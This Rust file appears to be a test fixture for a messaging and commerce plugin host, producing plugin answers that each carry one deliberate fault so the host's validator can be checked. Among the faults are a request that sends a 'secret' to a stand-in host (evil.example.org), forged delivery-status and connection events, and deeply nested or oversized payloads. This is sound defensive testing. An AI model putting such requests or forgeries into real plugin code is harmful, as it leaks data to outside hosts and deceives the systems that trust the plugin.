//! Answers: a good one, and that one with one mistake each.

use crate::bindings::tidegate::plugin::types::{
    Cart, ConnectionChange, Consent, ContactInfo, ContactKey, Done, Entity, Event, Failure, Field, Item, LineItem,
    Money, Order, Outcome, Payload, Phone, Request, Status, Trigger,
};

pub(crate) fn make(what: &str, item: &Item) -> Outcome {
    let mut done = Done { events: vec![event("a"), event("b")], triggers: vec![trigger("big-cart", "b")], state: None };
    let first = &mut done.events[0];
    match what {
        "good" => {}
        "duplicate-key" => done.events[1].event_key = "a".to_owned(),
        "empty-key" => first.event_key.clear(),
        "long-key" => first.event_key = "k".repeat(129),
        "bad-kind" => first.kind = "Cart Updated".to_owned(),
        "undeclared-kind" => first.kind = "warranty.expired".to_owned(),
        "declared-kind" => {
            first.kind = "warranty.registered".to_owned();
            first.payload = Payload::Custom("{\"serial\": 12345678901234567890}".to_owned());
        }
        "wrong-payload" => first.kind = "order.placed".to_owned(),
        "bad-instant" => first.occurred_at = "yesterday".to_owned(),
        "bad-decimal" => cart(first).items[0].quantity = "1e3".to_owned(),
        "bad-currency" => cart(first).total = Some(Money { amount: "1".to_owned(), currency: "euro".to_owned() }),
        "no-id" => cart(first).id = " ".to_owned(),
        "bad-extra" => first.extra = "[1]".to_owned(),
        "broken-extra" => first.extra = "{".to_owned(),
        "large-extra" => first.extra = format!("{{\"x\":\"{}\"}}", "x".repeat(256 << 10)),
        "bad-custom" => {
            first.kind = "warranty.registered".to_owned();
            first.payload = Payload::Custom("serial".to_owned());
        }
        "other-custom" => {
            first.kind = "warranty.registered".to_owned();
            first.payload = Payload::Custom("{\"serial\": \"secret-7\"}".to_owned());
        }
        "not-custom" => first.kind = "warranty.registered".to_owned(),
        "bad-promotion" => {
            first.kind = "order.placed".to_owned();
            first.payload = Payload::Order(order("o1"));
            first.extra = "{\"test\":\"yes\"}".to_owned();
        }
        "gift" => {
            let extra = "{\"gift_message\":\"For you\"}".to_owned();
            done = only(Event { extra, ..plain("order.placed", Payload::Order(order("o1"))) });
        }
        "review" => {
            let review = "{\"id\":\"r1\",\"stars\":4,\"text\":\"Good tea.\"}".to_owned();
            done = only(plain("review.posted", Payload::Custom(review)));
        }
        "huge-key" => first.event_key = "k".repeat(1 << 20),
        "deep-extra" => first.extra = format!("{{\"a\":{}", "[".repeat(200_000)),
        "deep-custom" => {
            first.kind = "warranty.registered".to_owned();
            first.payload = Payload::Custom("[".repeat(200_000));
        }
        "people" => person(first).keys = (0..257).map(|n| ContactKey::ExternalId(n.to_string())).collect(),
        "wide" => first.contact = Some(ContactInfo { tags: Some(vec![String::new(); 400_000]), ..contact() }),
        "noise" => cart(first).id = noise(4 << 20),
        "strangers" => {
            let stranger = |n: u32| {
                let keys = vec![ContactKey::ExternalId(format!("stranger-{n}"))];
                Event { contact: Some(ContactInfo { keys, ..contact() }), ..event(&n.to_string()) }
            };
            done.events = (0..1_000).map(stranger).collect();
            done.triggers.clear();
        }
        "forged-status" => {
            let mut forged = status("failed");
            (forged.message_id, forged.callback_data) = named(&item.body);
            done = only(plain("message.status_changed", Payload::Status(forged)));
        }
        "forged-connection" => {
            let account = Some("102290129340398".to_owned());
            let change = ConnectionChange { account, provider_event: None, reason: Some("forged".to_owned()) };
            done = only(plain("connection.disabled", Payload::Connection(change)));
        }
        "control-state" => done.state = Some("\u{1}".repeat(64 << 10)),
        "bad-state-word" => {
            first.kind = "message.status_changed".to_owned();
            first.payload = Payload::Status(status("seen"));
        }
        "bad-whatsapp-id" => person(first).keys.push(ContactKey::WhatsappId("+39 333".to_owned())),
        "bad-consent" => person(first).consents[0].scope = "all".to_owned(),
        "crowd" => done.events = (0..1_001).map(|key| event(&key.to_string())).collect(),
        "trigger-name" => done.triggers[0].name = "Big Cart".to_owned(),
        "trigger-key" => done.triggers[0].event_key = "c".to_owned(),
        "trigger-variables" => done.triggers[0].variables = "1".to_owned(),
        "state" => done.state = Some("seen".to_owned()),
        "large-state" => done.state = Some("x".repeat((64 << 10) + 1)),
        "need" => return need("https://api.example.com/orders/1"),
        "need-elsewhere" => return need("https://evil.example.org/?q=secret"),
        "need-nothing" => return Outcome::Need(Vec::new()),
        "many-requests" => return Outcome::Need(vec![request("https://api.example.com/"); 101]),
        "huge-request" => return need(&format!("https://api.example.com/{}", "x".repeat(1 << 20))),
        "failed" => {
            let field = Some("/customer".to_owned());
            return Outcome::Failed(Failure { field, reason: "r".repeat(5_000), retryable: true });
        }
        other => return Outcome::Skip(format!("unknown answer {other}")),
    }
    Outcome::Done(done)
}

fn need(url: &str) -> Outcome {
    Outcome::Need(vec![request(url)])
}

fn request(url: &str) -> Request {
    Request { method: "GET".to_owned(), url: url.to_owned(), headers: Vec::new(), body: None }
}

/// Text that does not compress.
fn noise(bytes: usize) -> String {
    let mut seed = 0x9e37_79b9_u32;
    let letters = std::iter::repeat_with(|| {
        seed ^= seed << 13;
        seed ^= seed >> 17;
        seed ^= seed << 5;
        char::from(b'0' + (seed % 75) as u8)
    });
    letters.take(bytes).collect()
}

/// One event, and nothing else.
fn only(event: Event) -> Done {
    Done { events: vec![event], triggers: Vec::new(), state: None }
}

/// An event of nobody.
fn plain(kind: &str, payload: Payload) -> Event {
    Event { kind: kind.to_owned(), contact: None, entity: None, payload, ..event("a") }
}

/// The ids of a message in the body, `"provider-id our-id"`: the plugin pretends to report of it.
fn named(body: &str) -> (String, Option<String>) {
    let ids = body.trim_matches('"');
    let (provider, ours) = ids.split_once(' ').unwrap_or((ids, ""));
    (provider.to_owned(), Some(ours.to_owned()))
}

fn order(id: &str) -> Order {
    Order {
        id: id.to_owned(),
        number: Some("#1".to_owned()),
        status: None,
        payment_status: None,
        fulfillment_status: None,
        total: None,
        subtotal: None,
        shipping: None,
        tax: None,
        discount: None,
        refunded: None,
        items: Vec::new(),
        shipping_address: None,
        billing_address: None,
        status_url: None,
        cart_id: None,
        discount_codes: Vec::new(),
        tags: Vec::new(),
        note: None,
        cancel_reason: None,
        placed_at: None,
    }
}

fn trigger(name: &str, event_key: &str) -> Trigger {
    Trigger { name: name.to_owned(), event_key: event_key.to_owned(), variables: "{\"over\": 100}".to_owned() }
}

fn event(key: &str) -> Event {
    let line = LineItem {
        id: None,
        product_id: None,
        sku: Some(String::new()),
        title: "Tea".to_owned(),
        variant: None,
        quantity: "2".to_owned(),
        price: Some(Money { amount: "10.50".to_owned(), currency: "eur".to_owned() }),
        url: None,
        image_url: None,
    };
    let cart = Cart {
        id: "c1".to_owned(),
        total: None,
        items: vec![line],
        recovery_url: None,
        completed_at: None,
        deleted: false,
    };
    Event {
        event_key: key.to_owned(),
        kind: "cart.updated".to_owned(),
        occurred_at: "2026-03-30T14:30:00+02:00".to_owned(),
        contact: Some(contact()),
        entity: Some(Entity { entity_type: "cart".to_owned(), id: "c1".to_owned(), version: None }),
        payload: Payload::Cart(cart),
        extra: "{}".to_owned(),
    }
}

fn contact() -> ContactInfo {
    let phone = |number: &str, region: Option<&str>| {
        ContactKey::Phone(Phone { number: number.to_owned(), region: region.map(str::to_owned) })
    };
    ContactInfo {
        keys: vec![
            phone("333 123 4567", None),
            phone("(555) 555-5555", Some("US")),
            phone("ask for Ada", None),
            ContactKey::WhatsappId("393331234567".to_owned()),
            ContactKey::WhatsappId("5511987654321".to_owned()),
            ContactKey::WhatsappUserId("US.13491208655302741918".to_owned()),
            ContactKey::Email(" Ada@Example.COM ".to_owned()),
            ContactKey::Email("none".to_owned()),
            ContactKey::ExternalId("207119551".to_owned()),
        ],
        name: None,
        first_name: Some(" Ada ".to_owned()),
        last_name: Some(String::new()),
        language: Some("it-IT".to_owned()),
        country: Some("it".to_owned()),
        time_zone: Some("Europe/Rome".to_owned()),
        tags: Some(vec!["vip".to_owned(), " ".to_owned()]),
        fields: vec![
            Field { name: "city".to_owned(), value: Some("Rome".to_owned()) },
            Field { name: "nickname".to_owned(), value: None },
        ],
        consents: vec![Consent {
            channel: "sms".to_owned(),
            scope: "marketing".to_owned(),
            state: "granted".to_owned(),
            at: Some("2026-01-01T00:00:00Z".to_owned()),
            method: None,
        }],
    }
}

fn status(state: &str) -> Status {
    Status {
        message_id: "wamid.1".to_owned(),
        channel: "whatsapp".to_owned(),
        sender: "106540352242922".to_owned(),
        state: state.to_owned(),
        callback_data: None,
        recipient: None,
        errors: Vec::new(),
        pricing: None,
    }
}

fn cart(event: &mut Event) -> &mut Cart {
    match &mut event.payload {
        Payload::Cart(cart) => cart,
        _ => unreachable!("every event here starts as a cart"),
    }
}

fn person(event: &mut Event) -> &mut ContactInfo {
    event.contact.get_or_insert_with(contact)
}
